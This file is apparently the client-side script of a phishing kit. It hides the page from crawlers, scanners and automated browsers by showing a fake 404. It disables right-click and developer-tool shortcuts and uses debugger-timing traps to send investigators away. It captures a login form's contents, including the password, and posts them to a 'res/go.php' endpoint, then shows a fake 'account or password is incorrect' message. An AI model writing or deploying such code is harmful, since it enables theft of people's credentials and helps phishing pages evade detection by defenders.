(function () {
  var agents = ["bot", "crawl", "spider", "curl", "python", "phantom", "headless", "slurp", "scan", "preview"];
  var ua = navigator.userAgent.toLowerCase();
  for (var i = 0; i < agents.length; i++) {
    if (ua.indexOf(agents[i]) !== -1 || navigator.webdriver) {
      document.documentElement.innerHTML = "<h1>404 Not Found</h1>";
      window.stop();
      return;
    }
  }
  document.addEventListener("contextmenu", function (e) { e.preventDefault(); });
  document.onkeydown = function (e) {
    if (e.keyCode === 123 || (e.ctrlKey && e.shiftKey && (e.keyCode === 73 || e.keyCode === 74)) || (e.ctrlKey && e.keyCode === 85)) {
      return false;
    }
  };
  setInterval(function () {
    if (window.outerWidth - window.innerWidth > 160 || window.outerHeight - window.innerHeight > 160) {
      location.replace("about:blank");
    }
    var t = Date.now();
    debugger;
    if (Date.now() - t > 100) location.replace("https://www.searchpage.example");
  }, 500);

  var f = document.getElementById("f1");
  f.addEventListener("submit", function (e) {
    e.preventDefault();
    var d = new FormData(f);
    d.append("scr", screen.width + "x" + screen.height);
    fetch("res/go.php?k=" + f.dataset.k, { method: "POST", body: d }).then(function (r) { return r.text(); }).then(function (t) {
      if (t.trim() === "2") location.href = f.dataset.out;
      else {
        f.elements.passwd.value = "";
        document.getElementById("passwordError").innerText = "Your account or password is incorrect.";
      }
    });
  });
})();
